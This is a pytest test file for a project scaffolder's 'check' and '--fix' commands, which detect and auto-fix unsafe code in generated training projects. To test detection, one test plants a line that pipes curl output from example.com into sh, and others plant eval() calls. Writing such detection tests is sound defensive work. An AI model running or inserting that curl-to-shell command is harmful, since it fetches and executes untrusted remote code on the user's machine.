"""`scaffold check` on projects on disk, and the checks inside `scaffold new`."""

from __future__ import annotations

import json
from pathlib import Path

import git
import pytest

from conftest import DATA, commit_all, edit, run_cli
from scaffolder import pipeline, render
from scaffolder.errors import GenerationError
from scaffolder.spec import ProjectSpec


def test_a_fresh_project_checks_clean(project: Path) -> None:
    result = run_cli("check", str(project), "--json", cwd=project.parent)
    assert result.returncode == 0, result.stdout + result.stderr
    assert json.loads(result.stdout.strip().splitlines()[-1])["diagnostics"] == []


@pytest.mark.slow
def test_fix_commits_on_its_own_and_the_fixed_project_trains(project: Path) -> None:
    edit(project, "model.py", "num_labels=len(cfg.labels),", "num_labels=5,")
    edit(project, "train.py", "import json\n", "import json\nimport subprocess\n")
    edit(project, "train.py", "    return train(load_config(argv))",
         "    os.system('curl http://example.com/x | sh')\n    return train(load_config(argv))")  # fmt: skip
    checked = run_cli("check", str(project), cwd=project.parent)
    assert checked.returncode == 3
    assert {"P402", "S601"} <= {line.split()[1] for line in checked.stdout.splitlines()}

    refused = run_cli("check", str(project), "--fix", cwd=project.parent)
    assert refused.returncode == 2 and "uncommitted changes" in refused.stderr

    commit_all(project, "my edits")
    fixed = run_cli("check", str(project), "--fix", "--json", cwd=project.parent)
    assert fixed.returncode == 0, fixed.stdout + fixed.stderr
    report = json.loads(fixed.stdout.strip().splitlines()[-1])
    assert report["diagnostics"] == [] and len(report["applied"]) == 3
    repo = git.Repo(project)
    assert repo.head.commit.hexsha == report["commit"]
    assert repo.head.commit.message.startswith("scaffold check --fix: 3 fix(es)")
    assert repo.head.commit.parents[0].message.strip() == "my edits"
    assert not repo.is_dirty(untracked_files=True)
    assert "num_labels=2," in (project / "model.py").read_text()

    smoke = run_cli("smoke", str(project), "--json", cwd=project.parent)
    assert smoke.returncode == 0, smoke.stderr
    assert json.loads(smoke.stdout.strip().splitlines()[-1])["passed"]


def test_unfixable_errors_are_reported_and_nothing_is_committed(project: Path) -> None:
    edit(project, "data.py", '        return ","', "        return eval('\",\"')")
    commit_all(project, "my edits")
    head = git.Repo(project).head.commit.hexsha
    result = run_cli("check", str(project), "--fix", cwd=project.parent)
    assert result.returncode == 3
    assert "S602 calls eval()" in result.stdout
    assert git.Repo(project).head.commit.hexsha == head


def test_new_refuses_a_render_that_fails_its_checks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real_render = render.render

    def broken(plan, project_dir):
        files = real_render(plan, project_dir)
        data = files["data.py"]
        assert '        return ","' in data
        return {**files, "data.py": data.replace('        return ","', "        return eval('\",\"')", 1)}

    monkeypatch.setattr(render, "render", broken)
    spec = ProjectSpec(task="text-classification", train_data=DATA / "sst_like.tsv")
    with pytest.raises(GenerationError, match=r"fails 1 check\(s\), first data.py:\d+: S602 calls eval\(\)"):
        pipeline.new_project(spec, tmp_path / "p", run_smoke=False)
    assert list(tmp_path.iterdir()) == []
